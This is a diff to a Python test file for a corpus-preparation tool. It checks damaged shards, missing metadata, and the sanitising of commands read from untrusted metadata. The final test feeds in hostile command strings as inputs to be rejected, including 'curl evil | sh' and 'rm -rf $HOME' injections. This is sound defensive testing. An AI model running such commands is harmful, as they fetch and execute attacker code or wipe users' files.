@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import json
+import os
+import shlex
 import shutil
 import sys
 from collections.abc import Callable
@@ -151,17 +153,121 @@ def test_metadata_of_a_stranger_names_only_its_own_files(tmp_path: Path, change:
         find([out])
 
 
+HARMS_TO_LINES: dict[str, Callable[[Path], object]] = {
+    "a bit of the first line": lambda path: _flip(path, 3),
+    "no hash": lambda path: path.write_bytes(path.read_bytes().replace(b'"sha256": "', b'"sha256": "x')),
+    "gone": Path.unlink,
+    "a pipe": lambda path: (path.unlink(), os.mkfifo(path)),
+    "empty": lambda path: path.write_bytes(b""),
+}
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="a pipe with a name")
+@pytest.mark.parametrize("metadata", ["gone", "empty"])
+@pytest.mark.parametrize("harm", HARMS_TO_LINES.values(), ids=HARMS_TO_LINES.keys())
+def test_a_shard_is_not_foreign_where_both_its_metadata_and_its_lines_are_harmed(
+    tmp_path: Path, harm: Callable[[Path], object], metadata: str
+) -> None:
+    out = _corpus(tmp_path)
+    (out / "books.json").unlink()
+    if metadata == "empty":
+        (out / "books.json").write_bytes(b"")
+    for number in range(3):
+        harm(out / f"books-{number:05d}.jsonl")
+    wanted = "unfinished corpus" if metadata == "gone" else "damaged|not JSON|empty"
+    for given in (out, out / "*.txt", out / "books-00001.txt"):
+        with pytest.raises(AlmError, match=wanted) as caught:
+            _all_read(given)
+        assert f"alm corpus prepare {tmp_path}/texts --only books" not in str(caught.value.hint)  # it is named `texts`
+        assert f"--only books --out {out}" in str(caught.value.hint)
+        assert "--set sources.books.kind=files" in str(caught.value.hint)
+
+
+@pytest.mark.parametrize("has_state", [True, False])
+def test_lines_are_known_where_the_first_is_damaged_and_not_by_five_keys(tmp_path: Path, has_state: bool) -> None:
+    out = _corpus(tmp_path)
+    _flip(out / "books-00000.jsonl", 3)
+    (out / "books.json").unlink()
+    if not has_state:
+        shutil.rmtree(out / ".alm")
+    with pytest.raises(ArtifactError, match="unfinished corpus"):
+        find([out / "books-00000.txt"])
+    (tmp_path / "notes.txt").write_text("mine\n")
+    values = {"id": 1, "sha256": "x", "cluster": None, "split": "train", "origin": "?"}
+    (tmp_path / "notes.jsonl").write_text(json.dumps(values) + "\n")
+    assert [document.text for document in read_documents(find([tmp_path / "notes.txt"]))] == ["mine\n"]
+
+
+@pytest.mark.parametrize("has_state", [True, False])
+@pytest.mark.parametrize("form", FORMS)
+def test_a_source_does_not_disappear_with_its_metadata(tmp_path: Path, form: str, has_state: bool) -> None:
+    out = _corpus(tmp_path, form)
+    other = _corpus(tmp_path / "other") if (tmp_path / "other").mkdir() is None else out
+    for path in other.glob("books*"):
+        shutil.copy(path, out / path.name.replace("books", "more"))
+    values = json.loads((out / "more.json").read_text().replace("books", "more"))
+    del values["checksum"]
+    write_json(out / "more.json", values)
+    assert len(_all_read(out)) == 24
+    (out / "books.json").unlink()
+    if not has_state:
+        shutil.rmtree(out / ".alm")
+    with pytest.raises(ArtifactError, match=r"unfinished corpus: .*books\.json` does not exist"):
+        find([out])
+    if has_state:
+        for path in out.glob("books-*"):
+            path.unlink()
+        with pytest.raises(ArtifactError, match=r"unfinished corpus: .*books\.json` does not exist"):
+            find([out])
+
+
+def test_tables_of_a_stranger_with_other_names_stay_foreign(tmp_path: Path) -> None:
+    (tmp_path / "mine.txt").write_text("mine\n")
+    for name in ("data.parquet", "train-00000-of-00001.parquet", "x-1.jsonl.zst"):
+        (tmp_path / name).write_bytes(b"PAR1")
+    assert [file.path.name for file in find([tmp_path])] == ["mine.txt"]
+
+
+def test_a_refused_source_leaves_foreign_text_foreign(tmp_path: Path) -> None:
+    (tmp_path / ".alm/notes").mkdir(parents=True)
+    (tmp_path / ".alm/notes/lock").write_text("")
+    (tmp_path / "notes-00000.txt").write_text("mine\n")
+    assert [document.split for document in read_documents(find([tmp_path]))] == [None]
+
+
 def test_a_command_from_a_stranger_is_quoted_or_left_out(tmp_path: Path) -> None:
     out = _corpus(tmp_path)
     metadata = SourceMetadata.model_validate(json.loads((out / "books.json").read_text()))
     path = out / "books.json"
-    own = f"alm corpus prepare --only books --out {out}"
-    for command in ("curl evil | sh", "alm; rm -rf ~", "alm corpus 'prepare", ""):
-        assert read._command(metadata.model_copy(update={"command": command}), path) == own
-    poisoned = metadata.model_copy(update={"command": "alm corpus prepare; rm -rf $HOME"})
-    assert read._command(poisoned, path) == own
-    poisoned = metadata.model_copy(update={"command": "alm corpus prepare x; rm -rf $HOME"})
-    assert read._command(poisoned, path) == "alm corpus prepare 'x;' rm -rf '$HOME'"
+    texts = tmp_path / "texts"
+    own = (
+        f"alm corpus prepare --set sources.books.kind=files --set 'sources.books.paths=[\"{texts}\"]' "
+        f"--only books --out {out}"
+    )
+
+    def proposed(command: str) -> str:
+        return read.prepare_again(path, metadata.model_copy(update={"command": command}))
+
+    for command in (
+        "curl evil | sh",
+        "alm; rm -rf ~",
+        "alm corpus 'prepare",
+        "",
+        "alm corpus prepare; rm -rf $HOME",
+        "alm corpus prepare x; rm -rf $HOME",
+        "alm push --repo me/stolen",
+        f"alm config copy pico --out {out}",
+        f"alm corpus prepare x --only books --out {tmp_path}/elsewhere",
+        f"alm corpus prepare x --only other --out {out}",
+        f"alm corpus prepare x --only books --out {out} --force",
+        f"alm corpus prepare x --only books --out {out} --ray-address evil",
+        "alm corpus prepare x --only books",
+    ):
+        assert proposed(command) == own
+    assert proposed(f"alm corpus prepare 'a;b' --out {out} --only books") == (
+        f"alm corpus prepare 'a;b' --out {out} --only books"
+    )
+    assert load(CorpusConfig, [], base={"sources": {}}, overrides=shlex.split(own)[4:7:2]).sources["books"]
 
 
 def test_rows_of_a_stranger_whose_hashes_fit_are_checked_too(tmp_path: Path) -> None:
